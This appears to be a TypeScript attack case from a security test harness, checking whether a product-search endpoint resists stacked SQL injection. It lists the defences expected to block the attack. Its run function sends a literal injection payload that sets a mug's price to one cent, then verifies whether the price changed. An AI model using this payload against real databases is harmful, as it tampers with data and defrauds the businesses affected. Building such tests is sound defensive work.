import type { Attack } from "../attack.ts";
import { list, summary } from "../exchange.ts";
import { search, searchTwin } from "./shared/requests.ts";

export const sqliStacked: Attack = {
  id: "sqli-stacked",
  title: "Change a price through the catalogue (stacked SQL injection)",
  owasp: ["SAS-1", "CWE-89"],
  paper: "IV.1.B",
  defences: [
    "edge:sql-injection",
    "function:search-term",
    "function:prepared-statement",
    "function:single-statement",
    "database:grants",
  ],
  operation: "searchProducts",
  target: "catalog",
  run: async (context) => {
    const answer = await context.send(search(context, "-'; UPDATE products SET price_cents=1 WHERE sku='MUG-1' -- "));
    const proof = await context.send(search(context, "Mug"), "proof");
    const price = list(proof, "products").find((product) => product.sku === "MUG-1")?.priceCents;
    const effect = price === 1;
    return { effect, evidence: effect ? "the mug now costs 1 cent, for everybody" : summary(answer) };
  },
  twin: searchTwin,
};
